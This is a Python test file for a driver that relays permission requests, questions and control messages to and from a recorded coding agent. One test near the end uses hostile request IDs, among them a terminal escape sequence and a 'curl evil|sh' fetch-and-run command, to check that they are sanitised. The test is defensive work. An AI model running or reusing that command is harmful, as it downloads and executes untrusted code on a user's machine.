"""Commands become the bytes that the real agent was recorded to accept."""

import hashlib
import json
import re
from typing import Any

import pytest
from msgspec import Raw
from tests.drivers.recorded import lines_of

from bascule.drivers.stream_json import StreamJsonDriver
from bascule.drivers.stream_json.encode import prompt_uuid
from bascule.model.codec import decode_event, encode
from bascule.model.errors import InvalidInput, UnknownOption
from bascule.model.events import (
    Image,
    Note,
    PermissionAnswered,
    PermissionRequested,
    PermissionWithdrawn,
    PromptSent,
    QuestionAnswered,
    QuestionAsked,
)
from bascule.model.records import Write

ANSWERED = [
    "allow",
    "deny",
    "parallel_tools",
    "ask_single",
    "ask_multi",
    "ask_free_text",
    "ask_two_questions",
    "ask_deny",
    "plan_allow",
    "plan_accept_edits",
    "plan_deny",
    "always_allow_one_rule",
    "write_edit_read",
    "subagent",
]


def asked_in(name: str) -> dict[str, PermissionRequested | QuestionAsked]:
    """What was asked, as it comes back from the log."""
    driver = StreamJsonDriver()
    found: dict[str, PermissionRequested | QuestionAsked] = {}
    for way, line in lines_of(name):
        for event in driver.receive(line.encode() + b"\n") if way == "out" else []:
            stored = decode_event(encode(event))
            if isinstance(stored, PermissionRequested | QuestionAsked):
                found[stored.request_id] = stored
    return found


def answers_in(name: str) -> list[tuple[str, str]]:
    """`(request id, line)` of every answer that was given."""
    lines = [line for way, line in lines_of(name) if way == "in" and '"control_response"' in line]
    return [(json.loads(line)["response"]["request_id"], line) for line in lines]


def answer_again(asked: PermissionRequested | QuestionAsked, reply: dict[str, Any]) -> Write:
    driver = StreamJsonDriver()
    allow = reply["behavior"] == "allow"
    if isinstance(asked, QuestionAsked):
        given = reply.get("updatedInput", {})
        notes = {key: value["notes"] for key, value in given.get("annotations", {}).items()}
        answered = QuestionAnswered(
            asked.request_id, "ana", given.get("answers", {}), notes, reply.get("message")
        )
        return driver.answer_question(asked, answered)
    option = None
    if reply.get("updatedPermissions"):
        chosen = reply["updatedPermissions"][0]
        offered = [json.loads(bytes(one)) for one in asked.suggestions]
        option = "accept_edits" if asked.kind == "plan" else f"suggestion-{offered.index(chosen)}"
    decision = "allow" if allow else "deny"
    return driver.answer_permission(
        asked, PermissionAnswered(asked.request_id, decision, "ana", option, message=reply.get("message"))
    )


@pytest.mark.parametrize("name", ANSWERED)
def test_an_answer_is_what_the_real_agent_accepted(name: str) -> None:
    asked = asked_in(name)
    given = answers_in(name)
    assert given
    for request_id, line in given:
        reply = json.loads(line)["response"]["response"]
        write = answer_again(asked[request_id], reply)
        assert write.write_id == f"answer:{request_id}"
        assert write.data.endswith(b"\n")
        assert write.data.count(b"\n") == 1
        assert json.loads(write.data) == json.loads(line)


ODD_INPUT = b'{"b" :1.50,  "a":"\\u00e9\\/","a2":[1e3,-0.0],"z":"caf\xc3\xa9"}'


def ask(tool: str, call: bytes, **fields: Any) -> list[Any]:
    request = {"subtype": "can_use_tool", "tool_name": tool, "input": Raw(call), **fields}
    line = encode({"type": "control_request", "request_id": "r1", "request": request})
    return StreamJsonDriver().receive(line + b"\n")


def test_the_input_goes_back_byte_for_byte() -> None:
    (asked,) = ask("Thing", ODD_INPUT)
    assert bytes(asked.input) == ODD_INPUT
    assert asked.input_sha256 == hashlib.sha256(ODD_INPUT).hexdigest()
    stored = decode_event(encode(asked))
    assert isinstance(stored, PermissionRequested)
    write = StreamJsonDriver().answer_permission(stored, PermissionAnswered("r1", "allow", "ana"))
    assert b'"updatedInput":' + ODD_INPUT + b"}" in write.data


def test_only_the_chosen_suggestion_goes_back_byte_for_byte() -> None:
    one = b'{"type":"addRules", "rules":[{"toolName":"Bash","ruleContent":"touch aa.txt"}],'
    one += b'"behavior":"allow","destination":"localSettings"}'
    two = b'{"type":"setMode","mode":"acceptEdits","destination":"session"}'
    (asked,) = ask("Bash", b'{"command":"touch aa.txt"}', permission_suggestions=[Raw(one), Raw(two)])
    assert [option.option_id for option in asked.options] == [
        "allow_once",
        "suggestion-0",
        "suggestion-1",
        "deny",
    ]
    assert asked.options[1].name == (
        "Allow `touch aa.txt` in this project from now on (writes .claude/settings.local.json)"
    )
    answered = PermissionAnswered("r1", "allow", "ana", option="suggestion-0")
    data = StreamJsonDriver().answer_permission(asked, answered).data
    assert b'"updatedPermissions":[' + one + b"]" in data
    assert two not in data


@pytest.mark.parametrize("option", ["suggestion-7", "suggestion--1", "suggestion-x", "accept_edits", "deny"])
def test_an_option_that_was_not_offered_allows_nothing(option: str) -> None:
    (asked,) = ask("Bash", b"{}")
    with pytest.raises(UnknownOption):
        StreamJsonDriver().answer_permission(asked, PermissionAnswered("r1", "allow", "ana", option=option))


@pytest.mark.parametrize("message", [None, "", "  "])
def test_a_deny_always_has_a_message(message: str | None) -> None:
    (asked,) = ask("Bash", b"{}")
    write = StreamJsonDriver().answer_permission(
        asked, PermissionAnswered("r1", "deny", "ana", message=message)
    )
    assert json.loads(write.data)["response"]["response"]["message"].strip()


def test_answers_are_added_after_the_question_as_it_was_asked() -> None:
    call = b'{"questions":[{"question":"Which?", "options":[{"label":"A"}],"multiSelect":true}] }'
    (asked,) = ask("AskUserQuestion", call)
    answered = QuestionAnswered("r1", "ana", {"Which?": "A, B"}, {"Which?": "a note"})
    data = StreamJsonDriver().answer_question(asked, answered).data
    assert call[:-2] + b',"answers":{"Which?":"A, B"},"annotations":{"Which?":{"notes":"a note"}}}' in data


def test_an_answer_to_another_question_is_refused() -> None:
    (asked,) = ask("AskUserQuestion", b'{"questions":[{"question":"Which?","options":[]}]}')
    with pytest.raises(InvalidInput):
        StreamJsonDriver().answer_question(asked, QuestionAnswered("r1", "ana", {"header": "A"}))


def test_a_prompt_carries_text_images_and_a_uuid_made_from_its_id() -> None:
    sent = PromptSent("p1", "what is this?", "ana", images=(Image("image/png", "aGk="),))
    write = StreamJsonDriver().prompt(sent)
    message = json.loads(write.data)
    assert write.write_id == "prompt:p1"
    assert message["uuid"] == prompt_uuid("p1") == prompt_uuid("p1") != prompt_uuid("p2")
    recorded = next(line for way, line in lines_of("image") if way == "in")
    shape = json.loads(recorded)["message"]["content"]
    shape[1]["source"]["data"] = "aGk="
    assert message["message"]["content"] == shape


@pytest.mark.parametrize(
    ("write", "request_body"),
    [
        (StreamJsonDriver().interrupt("interrupt:1"), {"subtype": "interrupt"}),
        (
            StreamJsonDriver().set_mode("mode:1", "manual"),
            {"subtype": "set_permission_mode", "mode": "default"},
        ),
        (StreamJsonDriver().set_mode("mode:2", "plan"), {"subtype": "set_permission_mode", "mode": "plan"}),
        (StreamJsonDriver().set_model("model:1", "sonnet"), {"subtype": "set_model", "model": "sonnet"}),
        (StreamJsonDriver().set_model("model:2", "default"), {"subtype": "set_model", "model": None}),
        (StreamJsonDriver().start()[0], {"subtype": "initialize", "hooks": None}),
    ],
)
def test_control_requests_have_the_recorded_shape(write: Write, request_body: dict[str, Any]) -> None:
    message = json.loads(write.data)
    assert message == {
        "type": "control_request",
        "request_id": f"bascule:{request_body['subtype']}:{write.write_id}",
        "request": request_body,
    }


@pytest.mark.row("F2", "S59")
@pytest.mark.parametrize(
    "foreign", ["x\x1b]52;c;aGk=\x07;curl evil|sh #", "\u202eabc", "a b", "", "ü", "r" * 129, "a\nb"]
)
def test_a_request_id_that_is_not_plain_is_ours_and_the_agent_is_answered_by_its_own(foreign: str):
    call = {"subtype": "can_use_tool", "tool_name": "Bash", "input": {"command": "ls"}}
    line = json.dumps({"type": "control_request", "request_id": foreign, "request": call}).encode() + b"\n"
    first = StreamJsonDriver()
    [asked] = first.receive(line)
    assert isinstance(asked, PermissionRequested)
    assert re.fullmatch(r"x-[0-9a-f]{32}", asked.request_id)
    driver = StreamJsonDriver.restore(first.state())  # as after a restart
    [note] = driver.receive(line)
    assert isinstance(note, Note)
    assert note.code == "duplicate_request"
    written = driver.answer_permission(asked, PermissionAnswered(asked.request_id, "allow", "ana"))
    assert json.loads(written.data)["response"]["request_id"] == foreign
    assert written.write_id == f"answer:{asked.request_id}"
    cancel = json.dumps({"type": "control_cancel_request", "request_id": foreign}).encode() + b"\n"
    [gone] = driver.receive(cancel)
    assert gone == PermissionWithdrawn(asked.request_id, "agent")


@pytest.mark.row("S59")
def test_a_plain_request_id_stays_as_it_is():
    call = {"subtype": "can_use_tool", "tool_name": "Bash", "input": {}}
    line = json.dumps({"type": "control_request", "request_id": "req_1.a:b-c", "request": call}).encode()
    [asked] = StreamJsonDriver().receive(line + b"\n")
    assert isinstance(asked, PermissionRequested)
    assert asked.request_id == "req_1.a:b-c"
